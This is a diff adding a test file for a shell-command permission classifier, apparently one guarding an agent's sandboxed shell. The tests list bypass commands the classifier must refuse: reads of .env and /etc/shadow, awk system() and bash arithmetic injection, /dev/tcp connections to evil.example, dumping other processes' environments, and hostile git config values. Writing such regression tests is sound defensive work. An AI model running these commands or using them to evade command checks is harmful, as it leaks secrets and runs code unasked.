@@ -1,0 +1,138 @@
+import { describe, expect, it } from "vitest";
+import { analyseShell, classifyCommand, riskyGitConfig } from "./index.ts";
+
+// Holes found by reading the tables beside the programs, and bash beside our reading of it. Each was seen to do what is said.
+const FOUND: Readonly<Record<string, readonly string[]>> = {
+  "letters that a program does not bundle, texts that it does not glue": [
+    "xxd -pc src.txt out.txt",
+    "xxd -ac 1 out.txt",
+    "xxd -prc a b",
+    "tree -Lo 1 out",
+    "tree -LR 1 -H .",
+    "tree -PR x -L 1",
+    'tree -L"$X" 1 out',
+  ],
+  "a text with one version, none with another: the next word is a file or the program": [
+    "fmt -p .env",
+    "more -n .env",
+    "column -n .env",
+    "sed -l p /root/d",
+    "awk --assign 'x=system(\"touch pwned\")' 1 a",
+    "awk --field-separator 'BEGIN{system(\"touch pwned\")}' 1 a",
+    "yq x.yq",
+    "git branch -l new",
+    "git branch -lv new",
+  ],
+  "options behind those that seem to end them": [
+    "jq -n --args '$x' --rawfile x .env",
+    "jq -n --args '1' -f program",
+    "jq -n --jsonargs '$x' --slurpfile x /etc/shadow",
+    "jq -n --args '1' \"$X\"",
+    "jq . a --args -L/x",
+  ],
+  "files that a file of the workspace names": [
+    "objdump -S a.o",
+    "objdump -dS a.o",
+    "objdump --source a.o",
+    "ar p thin.a",
+    "ar pv thin.a member",
+    "shellcheck -a x.sh",
+    "iconv -f /root/table -t utf-8 a",
+    "iconv -f utf-8 -t ./table a",
+  ],
+  "hosts that are asked for by their names": [
+    "ss -tn dst evil.example",
+    "ss 'dst evil.example'",
+    'ss dst "$X"',
+    "arp evil.example",
+    "arp -a evil.example",
+    "cat < /dev/tcp/evil.example/http-alt",
+    "cat < /dev/udp/evil.example/80/x",
+  ],
+  "environments of other processes": [
+    "ps -eo pid,environ",
+    "ps o pid,environ",
+    "ps --format=environ",
+    "docker top c eww",
+  ],
+  "what the shell itself puts into a variable, evaluated": [
+    ": 'a[$(touch pwned)]'; (( _ ))",
+    "echo 'a[$(touch pwned)]'; echo $((_))",
+    ": 'a[$(touch pwned)]'; echo ${x:_}",
+    ": 'a[$(touch pwned)]'; x=(1 2); echo ${x[_]}",
+    ": 'a[$(touch pwned)]'; x=([_]=1)",
+    ": 'a[$(touch pwned)]'; for ((i=_; i<1; i++)); do :; done",
+    "[[ 'a[$(touch pwned)]' =~ .* ]]; (( BASH_REMATCH ))",
+    "[[ 'a[$(touch pwned)]' =~ .* ]]; x=abc; echo ${x:BASH_REMATCH}",
+    "(( BASH_COMMAND ))",
+    "(( BASH_EXECUTION_STRING ))",
+  ],
+  "hidden files for a wildcard": ["shopt -s dotglob; cat *", "shopt -qs dotglob; grep x *"],
+  "words that an older sh splits": [
+    "sh -c 'y=\"a PATH=/workspace\"; export x=$y; ls'",
+    "sh -c 'readonly x=`cat a`; ls'",
+  ],
+  "an index that is written back, whatever is said about locks": ["git describe --broken", "git describe --broken=-x"],
+  "other programs than GNU's that write": ['for f in *.png; do base64 "$f"; done', 'for f in *; do base32 "$f"; done'],
+};
+
+describe("holes that were found in the tables stay closed", () => {
+  it.each(Object.keys(FOUND))("G07 %s", (kind) => {
+    expect(FOUND[kind]!.filter((command) => classifyCommand(command) === "allow")).toEqual([]);
+  });
+
+  it("G01 what stands beside them goes through", () => {
+    const open = [
+      ...[
+        "xxd -p a",
+        "xxd -l 64 -c 8 a",
+        "tree -L 2 -I node_modules",
+        "tree -aL 2",
+        "fmt -w 60 a",
+        "grep --context=2 x a",
+      ],
+      ...[
+        "jq -n --args '$ARGS' a b",
+        "jq --arg x y . a",
+        "objdump -d a.o",
+        "ar t lib.a",
+        "iconv -f utf-8 -t ascii//TRANSLIT a",
+      ],
+      ...[
+        "ss -tlnp",
+        "ss state established '( dport = :443 )'",
+        "ss dst 10.0.0.1",
+        "arp -a",
+        "ps -eo pid,comm",
+        "docker top c",
+      ],
+      ...[
+        "(( COLUMNS > 80 ))",
+        "(( BASH_VERSINFO >= 4 ))",
+        "echo $(( RANDOM % 6 ))",
+        "shopt -s nullglob; ls *.ts",
+        "yq .a data.yml",
+      ],
+      ...["sh -c 'export X=1; ls'", "git branch --list 'v*'", "git branch -l"],
+    ];
+    expect(open.filter((command) => classifyCommand(command) !== "allow")).toEqual([]);
+  });
+
+  it("G02 yq takes the name of a file for one, wherever it stands", () => {
+    const { effects } = analyseShell("yq -r /etc/secret.yml", { cwd: "/workspace", home: "/home/user" });
+    expect(effects).toContainEqual(expect.objectContaining({ do: "read", path: "/etc/secret.yml" }));
+  });
+
+  it("G02 a comment in a configuration hides nothing, and what an error would show is no secret file", () => {
+    for (const config of [
+      "# \\\n[diff] external = evil",
+      "[a]\n\tb = c ; x\\\n[diff] external = evil",
+      '[a]\n\tb = "c # d" # \\\n[diff] external = evil',
+      '[a]\n\tb = "c \\\n # d" # \\\n[diff] external = evil',
+      "[blame]\nignoreRevsFile = /root/secret",
+      "[alias]\nwhatchanged = !evil",
+    ])
+      expect([config, riskyGitConfig(config).length]).toEqual([config, 1]);
+    expect(riskyGitConfig('[a]\n\tb = "c # \\\n external = no"\n\tc = d\\\n\texternal = no')).toEqual([]);
+  });
+});
